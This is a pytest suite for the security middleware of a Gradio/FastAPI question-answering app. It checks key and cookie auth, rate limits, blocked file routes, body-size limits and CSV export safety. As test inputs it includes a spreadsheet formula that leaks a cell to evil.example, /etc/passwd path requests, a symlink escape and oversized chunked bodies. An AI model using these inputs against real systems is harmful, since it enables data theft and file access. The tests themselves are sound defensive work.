"""The guard in front of every route (issue 14), one test or more per finding, on a small
project with the fake embedder: the app in-process, or served by uvicorn on a loopback port."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
import time

import pytest
from fastapi.testclient import TestClient

from qa.index.build import ensure_index
from qa.retrieval.retriever import Retriever
from tests.conftest import FakeEmbedder, free_port, run_coroutine

PORTAL = "https://lms.example.edu"
EVIL = "https://evil.example"
KEY = "k-3xample"
QUESTION = "What is debt bondage?"


def _words(n: int, tag: str) -> str:
    return " ".join(f"{tag} {tag}word{i % 37} plain{i % 11}." for i in range(n))


@pytest.fixture
def corpus(project):
    (project.seeds_dir / "a.txt").write_text(_words(400, "alpha"), encoding="utf-8")
    (project.seeds_dir / "b.txt").write_text(_words(400, "beta"), encoding="utf-8")
    ensure_index(project, FakeEmbedder())
    return project


def make_app(settings, **changes):
    from qa.web.server import create_app

    settings = settings.replace(**changes)
    retriever = Retriever.open(settings, FakeEmbedder())
    return create_app(settings, retriever)


def client_for(settings, **changes) -> TestClient:
    return TestClient(make_app(settings, **changes), raise_server_exceptions=False)


@contextlib.contextmanager
def served(app, settings):
    """``app`` served by uvicorn with :func:`qa.web.server.uvicorn_options` on a free port."""
    import uvicorn

    from qa.web.server import uvicorn_options

    options = uvicorn_options(settings.replace(port=free_port(), host="127.0.0.1"))
    server = uvicorn.Server(uvicorn.Config(app, **options))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{options['port']}", options["port"]
    finally:
        server.should_exit = True
        thread.join(10)


def join(client, fn_index: int, data, *, event_data=None, **headers):
    body = {"data": data, "fn_index": fn_index, "session_hash": "s1", "event_data": event_data}
    return client.post("/gradio_api/queue/join", json=body, headers=headers)


def _respond(session, question, turns, k):
    """(chat messages, turns) after ``session.respond`` (a tuple or a reply object)."""
    reply = session.respond(question, turns, k)
    return (reply.chat, reply.turns) if hasattr(reply, "turns") else (reply[0], reply[1])


def fn_index(client, name: str, **headers) -> int:
    deps = client.get("/config", headers=headers).json()["dependencies"]
    return next(d["id"] for d in deps if d.get("api_name") == name)


# 1. Gradio's routes are behind the key, the origin allowlist and the rate limit ----------------


def test_gradio_routes_need_the_key_and_an_allowed_origin(corpus):
    client = client_for(corpus, api_key=KEY, allowed_origins=(PORTAL,), rate_limit=5)
    call = {"data": [QUESTION, 3]}
    assert client.post("/gradio_api/call/ask", json=call, headers={"Origin": EVIL}).status_code == 403
    assert client.post("/gradio_api/call/ask", json=call).status_code == 401
    assert client.get("/config").status_code == 401
    assert client.get("/gradio_api/info").status_code == 401
    assert join(client, 0, [QUESTION, None, 3]).status_code == 401
    assert client.get("/gradio_api/queue/data?session_hash=s1").status_code == 401
    assert client.get("/gradio_api/heartbeat/s1").status_code == 401
    # what the page polls to find the server again after a restart (then it reloads): not a 404,
    # and open without the key, so a page whose sign-in a new key ended reloads to the sign-in form
    assert client.get("/gradio_api/app_id").json()["app_id"]
    page = client.get("/", follow_redirects=False)
    assert page.status_code == 303 and page.headers["location"] == "session"
    # cross-origin reads of Gradio's config are refused too
    headers = {"Origin": EVIL, "Authorization": f"Bearer {KEY}"}
    assert client.get("/config", headers=headers).status_code == 403


def test_chat_questions_share_the_per_client_rate_limit(corpus):
    client = client_for(corpus, api_key=KEY, rate_limit=5)
    auth = {"Authorization": f"Bearer {KEY}"}
    ask = fn_index(client, "ask", **auth)
    codes = [join(client, ask, [QUESTION, None, 3], **auth).status_code for _ in range(8)]
    assert codes == [200] * 5 + [429] * 3
    res = client.post("/gradio_api/call/ask", json={"data": [QUESTION, 3]}, headers=auth)
    assert res.status_code == 429 and int(res.headers["retry-after"]) >= 1
    api = client.post("/api/v1/ask", json={"question": QUESTION}, headers=auth)
    assert api.status_code == 429  # one budget for the API and the chat


def test_session_cookie_opens_the_chat_page(corpus):
    client = client_for(corpus, api_key=KEY)
    assert "Access key" in client.get("/session").text
    wrong = client.post("/session", data={"key": "nope"}, follow_redirects=False)
    assert wrong.status_code == 401 and "not right" in wrong.text and "set-cookie" not in wrong.headers
    ok = client.post("/session", data={"key": KEY}, follow_redirects=False)
    assert ok.status_code == 303 and ok.headers["location"] == "./"
    cookie = ok.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie and KEY not in cookie
    assert client.get("/").status_code == 200 and client.get("/config").status_code == 200
    # the cookie is for the chat page only: the JSON API still wants the Bearer key
    assert client.post("/api/v1/ask", json={"question": QUESTION}).status_code == 401
    # a forged or tampered cookie does not count
    other = client_for(corpus, api_key=KEY)
    value = cookie.split(";")[0].split("=", 1)[1]
    forged = value[:-1] + ("0" if value[-1] != "0" else "1")
    other.cookies.set("qa_session", forged)
    assert other.get("/config").status_code == 401
    # a key-protected link signs in as well, then the key leaves the address bar
    # a reverse proxy's own Basic login beside the cookie does not count as a wrong key
    assert client.get("/config", headers={"Authorization": "Basic dXNlcjpwdw=="}).status_code == 200
    link = client_for(corpus, api_key=KEY).get(f"/session?key={KEY}", follow_redirects=False)
    assert link.status_code == 303 and "qa_session=" in link.headers["set-cookie"]


def test_session_cookie_expires_and_is_tied_to_the_key():
    from qa.web.sessions import SessionSigner

    now = [1000.0]
    signer = SessionSigner(b"key", lifetime=60, clock=lambda: now[0])
    value = signer.issue()
    assert signer.valid(value) and not SessionSigner(b"other", clock=lambda: now[0]).valid(value)
    now[0] += 61
    assert not signer.valid(value)
    assert not signer.valid("") and not signer.valid("v1.99999999999.x.y") and not signer.valid("é.é.é")


def test_gradio_client_needs_the_key(corpus):
    from gradio_client import Client

    settings = corpus.replace(api_key=KEY)
    with served(make_app(settings), settings) as (url, _):
        with pytest.raises(Exception):  # noqa: B017 - gradio_client raises several kinds
            Client(url + "/", verbose=False).predict(QUESTION, 3, api_name="/ask")
        client = Client(url + "/", verbose=False, headers={"Authorization": f"Bearer {KEY}"})
        chat, box, notice = client.predict(QUESTION, 3, api_name="/ask")  # the notice: qa.web.ui
        assert box == "" and notice == "" and chat[-1]["role"] == "assistant"
        # the page's internal functions are not part of its public API
        info = client.view_api(print_info=False, return_format="dict")
        assert set(info["named_endpoints"]) == {"/ask"} and not info["unnamed_endpoints"]
        with pytest.raises(Exception):  # noqa: B017
            client.predict(3, api_name="/rate")


# 2. links leaving the seeds folder are never served (the scan skips them: qa/ingest) ----------


def test_links_out_of_the_seeds_folder_are_not_served(corpus, tmp_path_factory):
    outside = tmp_path_factory.mktemp("elsewhere") / "secret.txt"
    outside.write_text("topsecret words alpha alpha " * 50, encoding="utf-8")
    (corpus.root / "code.txt").write_text("sourcecode alpha " * 50, encoding="utf-8")
    (corpus.seeds_dir / "passwd.txt").symlink_to(outside)
    (corpus.seeds_dir / "code.txt").symlink_to(corpus.root / "code.txt")
    ensure_index(corpus, FakeEmbedder())
    client = client_for(corpus, rate_limit=10_000)
    body = client.post("/api/v1/ask", json={"question": "topsecret sourcecode alpha", "k": 10}).json()
    shown = json.dumps(body["passages"])
    assert "topsecret" not in shown and "sourcecode" not in shown
    assert not any(p["citation"]["source"].startswith("/") for p in body["passages"])
    for source in (str(outside), outside.as_posix().lstrip("/"), "seeds/passwd.txt", "seeds/code.txt"):
        res = client.get(f"/api/v1/sources/{source}?start=0&end=10")
        assert res.status_code == 404 and "topsecret" not in res.text


def test_original_files_follow_the_key_like_the_page(corpus):
    from qa.web.routes import route_kind

    assert route_kind("/originals/seeds/a.pdf") == "document"
    client = client_for(corpus, api_key=KEY)
    assert client.get("/originals/seeds/a.txt").status_code == 401
    auth = {"Authorization": f"Bearer {KEY}"}
    assert client.post("/originals/seeds/a.txt", headers=auth).status_code == 405
    assert client.get("/originals/seeds/a.txt", headers={"Origin": EVIL}).status_code == 403


# 3. bodies are counted as they arrive and refused early ----------------------------------------


def test_body_limit_counts_bytes_not_headers():
    """Whatever Content-Length claims, the guard stops reading just past the limit."""
    from qa.config import Settings
    from qa.web.security import MAX_BODY_BYTES, SecurityMiddleware

    reached = []

    async def app(scope, receive, send):  # pragma: no cover - must not be reached
        reached.append(scope["path"])

    guard = SecurityMiddleware(app, Settings(model="fake-model"))
    chunk = b"x" * 65536
    pulled = [0]

    async def receive():
        pulled[0] += 1
        return {"type": "http.request", "body": chunk, "more_body": True}  # never ends

    sent = []

    async def send(message):
        sent.append(message)

    for path, headers in [
        ("/gradio_api/queue/join", [(b"content-length", b"10"), (b"transfer-encoding", b"chunked")]),
        ("/gradio_api/queue/join", [(b"transfer-encoding", b"chunked")]),
        ("/api/v1/ask", [(b"content-length", b"10"), (b"transfer-encoding", b"chunked")]),
    ]:
        pulled[0], sent[:] = 0, []
        scope = {"type": "http", "method": "POST", "path": path, "headers": headers, "client": ("1.2.3.4", 1)}
        run_coroutine(guard(scope, receive, send))
        assert sent[0]["status"] == 413
        assert pulled[0] * len(chunk) <= MAX_BODY_BYTES + len(chunk)
    assert reached == []


def test_huge_bodies_to_gradio_are_refused_on_the_wire(corpus):
    settings = corpus
    with served(make_app(settings), settings) as (_, port):
        for head in (
            "Content-Length: 300000000\r\n",
            "Transfer-Encoding: chunked\r\n",
            "Content-Length: 10\r\nTransfer-Encoding: chunked\r\n",
        ):
            with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
                sock.sendall(
                    f"POST /gradio_api/queue/join HTTP/1.1\r\nHost: x\r\n{head}"
                    "Content-Type: application/json\r\n\r\n".encode()
                )
                status = b""
                with contextlib.suppress(OSError):
                    for _ in range(64):  # at most 4 MiB, stopping once the answer came
                        if "chunked" in head:
                            sock.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
                        else:
                            sock.sendall(b"x" * 65536)
                        sock.settimeout(0.01)
                        with contextlib.suppress(TimeoutError, socket.timeout):
                            status = sock.recv(64)
                        sock.settimeout(10)
                        if status:
                            break
                if not status:
                    sock.settimeout(10)
                    status = sock.recv(64)
                assert status.startswith((b"HTTP/1.1 413", b"HTTP/1.1 400")), (head, status)


# 4. no upload route ----------------------------------------------------------------------------


def test_no_upload_or_file_routes(corpus):
    client = client_for(corpus)
    assert client.get("/config").json()["max_file_size"] == 1
    up = client.post("/gradio_api/upload", files={"files": ("big.bin", b"x" * 10_000)})
    assert up.status_code == 404 and up.json() == {"error": "no such page or API route"}
    for path in (
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file/etc/passwd",
        "/gradio_api/upload_progress",
        "/gradio_api/proxy=http://example.org",
        "/monitoring",
        "/login",
        "/gradio_api/run/ask",
        "/gradio_api/api/ask",
        "/gradio_api/call/rate",
    ):
        assert client.get(path).status_code == 404, path
        assert client.post(path, json={}).status_code == 404, path


# 5. feedback: gated, limited, capped, exported safely ------------------------------------------


def test_feedback_is_rate_limited_per_client(corpus):
    client = client_for(corpus, feedback_rate_limit=3)
    rate = next(d["id"] for d in client.get("/config").json()["dependencies"] if d.get("api_name") == "rate")
    codes = [join(client, rate, [None], event_data={"index": 1, "liked": True}).status_code for _ in range(5)]
    assert codes == [200, 200, 200, 429, 429]
    ask = fn_index(client, "ask")
    assert join(client, ask, [QUESTION, None, 3]).status_code == 200  # questions have their own budget


def _queue_call(client, session: str, fn: int, data: list, event_data=None):
    """One event through Gradio's queue, as the page sends it; returns (success, output)."""
    body = {"data": data, "fn_index": fn, "session_hash": session, "event_data": event_data}
    res = client.post("/gradio_api/queue/join", json=body)
    assert res.status_code == 200, res.text
    event_id = res.json()["event_id"]
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            msg = json.loads(line[5:]) if line.startswith("data:") else {}
            if msg.get("event_id") == event_id and msg.get("msg") == "process_completed":
                return msg.get("success"), msg.get("output")
    raise AssertionError("no answer from the queue")


def test_ratings_over_the_wire_need_an_answer_of_that_session(corpus, tmp_path):
    import httpx

    settings = corpus.replace(feedback_path=tmp_path / "fb.jsonl")
    with served(make_app(settings), settings) as (url, _), httpx.Client(base_url=url, timeout=60) as client:
        ids = {d.get("api_name"): d["id"] for d in client.get("/config").json()["dependencies"]}
        like = {"index": 1, "value": None, "liked": False}
        forged = [[{"answer": "forged"}]]  # a client cannot hand in its own conversation
        _queue_call(client, "fresh", ids["rate"], forged, like)
        assert not (tmp_path / "fb.jsonl").exists()
        ok, _ = _queue_call(client, "asker", ids["ask"], ["alpha alphaword3", None, 2])
        assert ok
        for _ in range(5):
            _queue_call(client, "asker", ids["rate"], [None], like)
        _queue_call(client, "other", ids["rate"], [None], like)  # not this session's answer
    lines = (tmp_path / "fb.jsonl").read_text().splitlines()
    assert len(lines) == 1 and json.loads(lines[0])["question"] == "alpha alphaword3"


def test_a_rating_counts_once_per_answer_and_names_it(corpus, tmp_path):
    from qa.web.chat import ChatSession

    settings = corpus.replace(feedback_path=tmp_path / "fb.jsonl")
    session = ChatSession(Retriever.open(settings, FakeEmbedder()), settings)
    _, turns = _respond(session, QUESTION, (), 3)
    ratings = [session.rate(1, False, turns) for _ in range(300)]
    assert ratings == ["down"] + [None] * 299
    assert session.rate(1, True, turns) == "up"  # a changed mind is recorded
    assert session.rate(1, False, ()) is None  # not an answer of this session
    lines = [json.loads(line) for line in (tmp_path / "fb.jsonl").read_text().splitlines()]
    assert [r["rating"] for r in lines] == ["down", "up"]
    assert {r["answer_id"] for r in lines} == {turns[0].id} and len(turns[0].id) == 32


def test_feedback_records_and_file_are_capped(tmp_path):
    from qa.feedback import FeedbackError, FeedbackRecord, append_feedback
    from qa.records import MAX_RECORD_BYTES

    path = tmp_path / "fb.jsonl"
    with pytest.raises(FeedbackError, match="at most"):
        append_feedback(path, FeedbackRecord("up", "x" * (MAX_RECORD_BYTES + 1)))
    for _ in range(3):
        append_feedback(path, FeedbackRecord("up", "q" * 300), max_bytes=1500)
    with pytest.raises(FeedbackError, match="full"):
        append_feedback(path, FeedbackRecord("up", "q" * 300), max_bytes=1500)
    assert len(path.read_text().splitlines()) == 3


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_spreadsheet_formulas_are_neutralised(text):
    from qa.eval.files import spreadsheet_safe  # what every CSV export writes through

    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("What is =?") == "What is =?" and spreadsheet_safe(3) == 3


def test_feedback_export_csv_has_no_live_formula(tmp_path):
    import csv

    from qa.cli import main
    from qa.feedback import FeedbackRecord, append_feedback

    path = tmp_path / "fb.jsonl"
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    append_feedback(path, FeedbackRecord("down", attack, query="@cmd", comment="+1"))
    out = tmp_path / "review.csv"
    import os

    os.environ["QA_FEEDBACK_PATH"] = str(path)
    try:
        assert main(["feedback", "export", "--root", str(tmp_path), "--out", str(out)]) == 0
    finally:
        del os.environ["QA_FEEDBACK_PATH"]
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    cells = [cell for row in rows[1:] for cell in row]
    assert attack not in cells and "'" + attack in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


# 6. bounded sessions -----------------------------------------------------------------------------


def test_conversation_keeps_the_last_turns(corpus):
    from qa.web.chat import ChatSession

    settings = corpus.replace(max_turns=20)
    session = ChatSession(Retriever.open(settings, FakeEmbedder()), settings)
    turns = ()
    for i in range(30):
        chat, turns = _respond(session, f"{QUESTION} {i}", turns, 1)
    assert len(turns) == 20 and len(chat) == 40
    assert turns[0].answer.question.endswith(" 10") and turns[-1].answer.question.endswith(" 29")


def test_gradio_keeps_a_bounded_number_of_sessions(corpus):
    app = make_app(corpus, max_sessions=7)
    blocks = app.app.state.live  # the app is built
    assert blocks is not None
    from gradio.routes import App

    gradio_app = next(r.app for r in app.app.routes if isinstance(getattr(r, "app", None), App))
    holder = gradio_app.get_blocks().state_holder
    assert holder.capacity == 7
    for i in range(20):
        holder[f"s{i}"]
    assert len(holder.session_data) <= 8


# 7. answers say when their file changed; a rebuilt index is picked up ---------------------------


def test_answers_flag_a_changed_file_at_once_and_reload_a_rebuilt_index(corpus):
    app = make_app(corpus, rate_limit=10_000)
    client = TestClient(app, raise_server_exceptions=False)
    body = client.post("/api/v1/ask", json={"question": "alpha alphaword3"}).json()
    assert body["stale"] is False
    a = corpus.seeds_dir / "a.txt"
    indexed = a.read_text(encoding="utf-8")
    a.write_text("gamma words now. " + indexed, encoding="utf-8")
    body = client.post("/api/v1/ask", json={"question": "alpha alphaword3"}).json()
    cited = [p for p in body["passages"] if p["citation"]["source"] == "seeds/a.txt"]
    assert body["stale"] is True and cited and all(p["citation"]["stale"] for p in cited)
    for p in cited:  # quotes are the indexed text, never the edited file's
        assert indexed[p["citation"]["start"] : p["citation"]["end"]] == p["text"]
    ctx = client.get(cited[0]["context_url"]).json()
    assert ctx["stale"] is True and ctx["passage"] == cited[0]["text"]
    health = client.get("/api/v1/health").json()
    assert health["status"] == "stale" and "source changed: seeds/a.txt" in health["sources_changed"]

    ensure_index(corpus, FakeEmbedder())  # `qa index` in another process
    live = app.app.state.live
    old = live.current
    assert live.refresh(wait=True) and live.current is not old
    body = client.post("/api/v1/ask", json={"question": "gamma alpha"}).json()
    assert body["stale"] is False
    text = a.read_text(encoding="utf-8")
    assert all(
        text[p["citation"]["start"] : p["citation"]["end"]] == p["text"]
        for p in body["passages"]
        if p["citation"]["source"] == "seeds/a.txt"
    )
    assert client.get("/api/v1/health").json()["status"] == "ok"


def test_a_touched_but_unchanged_file_is_not_stale(corpus):
    import os

    client = client_for(corpus, rate_limit=10_000)
    a = corpus.seeds_dir / "a.txt"
    os.utime(a, ns=(a.stat().st_atime_ns, a.stat().st_mtime_ns + 5_000_000_000))
    body = client.post("/api/v1/ask", json={"question": "alpha alphaword3"}).json()
    assert any(p["citation"]["source"] == "seeds/a.txt" for p in body["passages"])
    assert body["stale"] is False and client.get("/api/v1/health").json()["status"] == "ok"


def test_in_flight_answer_keeps_its_retriever(corpus):
    from qa.web.live import LiveRetriever

    live = LiveRetriever(Retriever.open(corpus, FakeEmbedder()), corpus, every=0)
    first = live.pin()
    (corpus.seeds_dir / "b.txt").write_text(_words(50, "delta"), encoding="utf-8")
    ensure_index(corpus, FakeEmbedder())
    live.refresh(wait=True)
    assert live.current is not first
    assert live.index is first.index  # this thread pinned the old one mid-question
    assert live.pin() is live.current and live.index is live.current.index


def test_a_broken_rebuild_keeps_the_old_index(corpus):
    from qa.web.live import LiveRetriever

    live = LiveRetriever(Retriever.open(corpus, FakeEmbedder()), corpus, every=0)
    old = live.current
    (corpus.index_dir / "CURRENT").write_text("build-missing\n", encoding="utf-8")
    live.refresh(wait=True)
    assert live.current is old


# 8. key guessing is throttled before the 401 -----------------------------------------------------


def test_wrong_keys_are_throttled_before_any_401(corpus):
    client = client_for(corpus, api_key=KEY, auth_fail_limit=3, rate_limit=10_000)
    q = {"question": QUESTION}
    codes = [
        client.post("/api/v1/ask", json=q, headers={"Authorization": f"Bearer guess{i}"}).status_code
        for i in range(6)
    ]
    assert codes == [401, 401, 401, 429, 429, 429]
    # while throttled even the right key is not tried, so guessing learns nothing
    right = client.post("/api/v1/ask", json=q, headers={"Authorization": f"Bearer {KEY}"})
    assert right.status_code == 429 and "retry-after" in right.headers
    # the sign-in form and cookies count as guesses too
    other = client_for(corpus, api_key=KEY, auth_fail_limit=2)
    assert other.post("/session", data={"key": "a"}).status_code == 401
    assert other.post("/session", data={"key": "b"}).status_code == 401
    assert other.post("/session", data={"key": "c"}).status_code == 429
    assert other.post("/session", data={"key": KEY}).status_code == 429


def test_non_ascii_key_is_compared_as_bytes(corpus):
    key = "clé-ünïcødé"
    app = make_app(corpus, api_key=key)
    with served(app, corpus) as (url, _):
        import httpx

        q = {"question": QUESTION}
        raw = {"Authorization": b"Bearer " + key.encode("utf-8")}
        assert httpx.post(url + "/api/v1/ask", json=q, headers=raw, timeout=30).status_code == 200
        wrong = {"Authorization": b"Bearer " + key.encode("latin-1")}
        assert httpx.post(url + "/api/v1/ask", json=q, headers=wrong, timeout=30).status_code == 401


# 9. X-Forwarded-For counts only from trusted proxies --------------------------------------------


def test_forwarded_for_is_ignored_unless_the_proxy_is_trusted(corpus):
    import httpx

    settings = corpus.replace(rate_limit=3)
    with served(make_app(settings), settings) as (url, _):
        codes = [
            httpx.post(
                url + "/api/v1/ask",
                json={"question": QUESTION},
                headers={"X-Forwarded-For": f"203.0.113.{i}"},
                timeout=30,
            ).status_code
            for i in range(5)
        ]
    assert codes == [200, 200, 200, 429, 429]


def test_client_address_from_trusted_proxies():
    from qa.web.limits import client_address

    assert client_address("127.0.0.1", "203.0.113.9", ()) == "127.0.0.1"
    assert client_address("10.0.0.2", "198.51.100.1, 203.0.113.9", ("10.0.0.0/8",)) == "203.0.113.9"
    chain = "198.51.100.1, 203.0.113.9, 10.0.0.7"
    assert client_address("10.0.0.2", chain, ("10.0.0.0/8",)) == "203.0.113.9"
    assert client_address("192.0.2.1", "203.0.113.9", ("10.0.0.0/8",)) == "192.0.2.1"


def test_uvicorn_trusts_forwarded_headers_only_from_the_setting(corpus):
    from qa.web.server import uvicorn_options

    assert uvicorn_options(corpus)["proxy_headers"] is False
    trusted = uvicorn_options(corpus.replace(trusted_proxies=("10.0.0.5", "10.1.0.0/16")))
    assert trusted["proxy_headers"] is True and trusted["forwarded_allow_ips"] == "10.0.0.5,10.1.0.0/16"


def test_trusted_proxies_setting_is_checked():
    from qa.config import Settings
    from qa.errors import ConfigError

    assert Settings.load({"QA_TRUSTED_PROXIES": "10.0.0.1, ::1"}).trusted_proxies == ("10.0.0.1", "::1")
    with pytest.raises(ConfigError, match="not an IP address"):
        Settings(trusted_proxies=("proxy.example",))


# 10. the smaller findings -------------------------------------------------------------------------


def test_unknown_api_paths_and_methods_keep_the_error_shape(corpus):
    client = client_for(corpus)
    res = client.get("/api/v1/sources/a%0Ab?start=0&end=1")
    assert res.status_code == 404 and set(res.json()) == {"error"}
    res = client.get("/api/v2/anything")
    assert res.status_code == 404 and set(res.json()) == {"error"}
    for method, path in [("TRACE", "/api/v1/ask"), ("PUT", "/api/v1/ask"), ("TRACE", "/"), ("DELETE", "/")]:
        res = client.request(method, path)
        assert res.status_code == 405 and res.headers["allow"] and set(res.json()) == {"error"}
    res = client.get("/api/v1/ask")
    assert res.status_code == 405 and res.headers["allow"] == "POST, OPTIONS"
    res = client.post("/api/v1/health")
    assert res.status_code == 405 and res.headers["allow"] == "GET, OPTIONS"
    res = client.options("/api/v1/ask")
    assert res.status_code == 204 and res.headers["allow"] == "POST, OPTIONS"


def test_non_utf8_body_is_a_documented_400(corpus):
    client = client_for(corpus)
    res = client.post(
        "/api/v1/ask", content=b'{"question": "\xff\xfe"}', headers={"content-type": "application/json"}
    )
    assert res.status_code == 400 and "UTF-8" in res.json()["error"] and set(res.json()) == {"error"}
    schema = client.get("/openapi.json").json()
    assert str(res.status_code) in schema["paths"]["/api/v1/ask"]["post"]["responses"]


def test_every_guard_status_is_documented(corpus):
    schema = client_for(corpus).get("/openapi.json").json()
    ask = schema["paths"]["/api/v1/ask"]["post"]["responses"]
    assert {"400", "401", "403", "411", "413", "422", "429", "500"} <= set(ask)
    sources = schema["paths"]["/api/v1/sources/{source}"]["get"]["responses"]
    assert {"400", "401", "403", "404", "413", "422", "429", "500"} <= set(sources)
    assert "stale" in schema["components"]["schemas"]["AskResponse"]["properties"]


def test_startup_rebuild_says_why(corpus, monkeypatch):
    import qa.embedders.base
    from qa.web.server import prepare

    monkeypatch.setattr(qa.embedders.base, "make_embedder", lambda settings: FakeEmbedder())
    (corpus.seeds_dir / "a.txt").write_text(_words(100, "changed"), encoding="utf-8")
    said = []
    prepare(corpus, say=said.append)
    assert any("because" in line and "source changed: seeds/a.txt" in line for line in said), said


def test_lock_that_is_a_directory_is_a_clear_error(corpus):
    from qa.errors import QAError

    lock = corpus.index_dir / ".lock"
    lock.unlink(missing_ok=True)
    lock.mkdir()
    with pytest.raises(QAError, match=r"\.lock"):
        ensure_index(corpus, FakeEmbedder())


def test_websockets_are_refused():
    from qa.config import Settings
    from qa.web.security import SecurityMiddleware

    async def app(scope, receive, send):  # pragma: no cover - must not be reached
        raise AssertionError

    sent = []

    async def receive():
        return {"type": "websocket.connect"}

    async def send(message):
        sent.append(message)

    scope = {"type": "websocket", "path": "/gradio_api/queue/join", "headers": []}
    run_coroutine(SecurityMiddleware(app, Settings(model="fake-model"))(scope, receive, send))
    assert sent == [{"type": "websocket.close", "code": 1008}]


def test_api_routes_added_later_pass_the_guard_without_a_list():
    from fastapi import APIRouter, FastAPI

    from qa.config import Settings
    from qa.web.routes import api_routes
    from qa.web.security import SecurityMiddleware

    app = FastAPI()
    router = APIRouter(prefix="/v2")

    @router.get("/things/{name}")
    def thing(name: str):
        return {"name": name}

    app.include_router(router, prefix="/api")
    guard = SecurityMiddleware(app, Settings(model="fake-model"), routes=api_routes(app))
    client = TestClient(guard)
    assert client.get("/api/v2/things/x").json() == {"name": "x"}
    assert client.post("/api/v2/things/x").status_code == 405
    assert client.get("/api/v2/other").status_code == 404


def test_no_route_answers_without_the_key(corpus):
    """Whatever path and method, with a key set and none sent: never a 5xx, and nothing but
    static files, docs, health and the sign-in form answer 2xx."""
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from qa.web.routes import route_kind

    client = client_for(corpus, api_key=KEY, auth_fail_limit=10**6)
    prefixes = st.sampled_from(
        "/ /gradio_api/ /gradio_api/queue/ /gradio_api/call/ /api/v1/ /config /originals/ "
        "/gradio_api/file= /gradio_api/heartbeat/ /session /assets/ /static/ /docs".split()
    )
    tails = st.text(alphabet="abcdefghijklmnopqrstuvwxyz/._-=%0123456789", max_size=20)

    @settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
    @given(prefix=prefixes, tail=tails, method=st.sampled_from(["GET", "POST", "HEAD", "PUT", "OPTIONS"]))
    def check(prefix, tail, method):
        path = (prefix + tail).replace("//", "/")
        body = {"data": [QUESTION], "fn_index": 0, "session_hash": "x"}
        res = client.request(method, path, json=body, follow_redirects=False)
        assert res.status_code < 500, (method, path, res.status_code)
        if 200 <= res.status_code < 300:
            # the path the server received: the client resolves dot segments ("/session/." is "/session")
            sent = res.request.url.path
            assert (
                route_kind(sent) in ("open", "session")
                or sent == "/api/v1/health"
                or (method == "OPTIONS" and sent.startswith("/api/"))
            ), (method, path, sent, res.status_code)
            assert "qa-answer" not in res.text and "passages" not in res.text

    check()
